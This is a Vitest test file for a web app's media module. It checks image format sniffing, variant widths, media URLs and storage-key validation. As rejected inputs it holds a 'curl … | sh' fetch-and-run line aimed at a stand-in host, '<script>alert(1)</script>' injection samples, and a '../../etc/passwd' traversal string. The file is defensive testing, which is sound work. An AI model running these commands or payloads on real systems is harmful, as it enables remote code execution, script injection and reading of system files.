import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import { variantWidths } from './media';
import { isStorageKey, mediaSrcSet, mediaUrl, pickVariant, sniffImageFormat, VARIANT_FILE_PATTERN } from '@/lib/media-url';

const text = (s: string) => new TextEncoder().encode(s);

async function tiny(format: 'jpeg' | 'png' | 'webp' | 'gif'): Promise<Uint8Array> {
  const image = sharp({ create: { width: 4, height: 3, channels: 3, background: '#b3161c' } });
  return new Uint8Array(await image.toFormat(format).toBuffer());
}

describe('sniffImageFormat', () => {
  it.each(['jpeg', 'png', 'webp', 'gif'] as const)('recognises a real %s from its bytes', async (format) => {
    expect(sniffImageFormat(await tiny(format))).toBe(format);
  });

  it('recognises lossless WebP (VP8L) as well as lossy', async () => {
    const lossless = await sharp({ create: { width: 2, height: 2, channels: 4, background: '#0000' } }).webp({ lossless: true }).toBuffer();
    expect(sniffImageFormat(new Uint8Array(lossless))).toBe('webp');
  });

  it('refuses SVG, even with an XML declaration or leading spaces', () => {
    expect(sniffImageFormat(text('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'))).toBeNull();
    expect(sniffImageFormat(text('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"/>'))).toBeNull();
    expect(sniffImageFormat(text('   <svg/>'))).toBeNull();
  });

  it('refuses a shell script renamed .png, an HTML page, a PDF and an empty file', () => {
    expect(sniffImageFormat(text('#!/bin/sh\ncurl http://example.invalid/x | sh\n'))).toBeNull();
    expect(sniffImageFormat(text('<!DOCTYPE html><html><body><script>alert(1)</script></body></html>'))).toBeNull();
    expect(sniffImageFormat(text('%PDF-1.7\n%âãÏÓ\n1 0 obj'))).toBeNull();
    expect(sniffImageFormat(new Uint8Array())).toBeNull();
  });

  it('refuses truncated signatures and other RIFF files', () => {
    expect(sniffImageFormat(new Uint8Array([0x89, 0x50, 0x4e, 0x47]))).toBeNull();
    expect(sniffImageFormat(new Uint8Array([0xff, 0xd8]))).toBeNull();
    expect(sniffImageFormat(text('GIF8'))).toBeNull();
    // A WAV file is RIFF too, but not WEBP.
    expect(sniffImageFormat(text('RIFF\x24\x00\x00\x00WAVEfmt '))).toBeNull();
    expect(sniffImageFormat(text('RIFF\x24\x00\x00\x00WEBPJUNK'))).toBeNull();
  });
});

describe('variantWidths', () => {
  it('makes the three standard widths for a large image, never wider than the original', () => {
    expect(variantWidths(4000)).toEqual([320, 800, 1600]);
    expect(variantWidths(1600)).toEqual([320, 800, 1600]);
    expect(variantWidths(1000)).toEqual([320, 800, 1000]);
  });

  it('always makes at least one size, at the original width for small images', () => {
    expect(variantWidths(320)).toEqual([320]);
    expect(variantWidths(120)).toEqual([120]);
  });
});

describe('media URLs', () => {
  const key = '0123456789abcdef0123456789abcdef';
  const variants = [
    { width: 800, height: 600, file: '800.webp', bytes: 9000 },
    { width: 320, height: 240, file: '320.webp', bytes: 2000 },
  ];

  it('builds the public URL the media route serves', () => {
    expect(mediaUrl(key, 320)).toBe(`/media/${key}/320.webp`);
    expect(VARIANT_FILE_PATTERN.test('320.webp')).toBe(true);
    expect(mediaSrcSet(key, variants)).toBe(`/media/${key}/320.webp 320w, /media/${key}/800.webp 800w`);
  });

  it('accepts only 32 lower-case hex digits as a storage key', () => {
    expect(isStorageKey(key)).toBe(true);
    expect(isStorageKey('../../etc/passwd')).toBe(false);
    expect(isStorageKey(key.toUpperCase())).toBe(false);
    expect(isStorageKey(`${key}0`)).toBe(false);
  });

  it('picks the smallest size wide enough, or the largest there is', () => {
    expect(pickVariant(variants, 300)?.width).toBe(320);
    expect(pickVariant(variants, 500)?.width).toBe(800);
    expect(pickVariant(variants, 1600)?.width).toBe(800);
    expect(pickVariant([], 320)).toBeNull();
  });
});
